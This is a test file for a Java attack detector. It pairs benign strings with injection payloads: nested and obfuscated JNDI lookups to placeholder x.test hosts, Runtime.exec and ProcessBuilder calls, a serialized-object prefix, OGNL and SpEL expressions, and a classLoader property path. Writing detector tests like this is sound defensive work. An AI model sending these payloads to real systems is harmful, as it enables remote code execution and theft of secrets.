// Java attack detector: JNDI lookups (also nested), runtime classes,
// serialized objects and expression language.
import { detectJava } from '../../../src/detection/detectors/java.js';
import { testDetector } from './cases.js';

testDetector('java', detectJava, {
  attacks: [
    '${jndi:ldap://x.test/a}',
    '${${lower:j}${upper:n}di:rmi://x.test/b}',
    '${${::-j}ndi:dns://x.test}',
    'java.lang.Runtime.getRuntime().exec("id")',
    'new ProcessBuilder("sh")',
    'rO0ABXNyABFqYXZh',
    '%{#_memberAccess["allowStaticMethodAccess"]=true}',
    '${T(java.lang.System).getenv()}',
    'class.module.classLoader.resources.context',
  ],
  benign: ['JavaScript tutorial', 'java runtime 21 installed', 'Order ${total} now', 'the class was fun'],
});
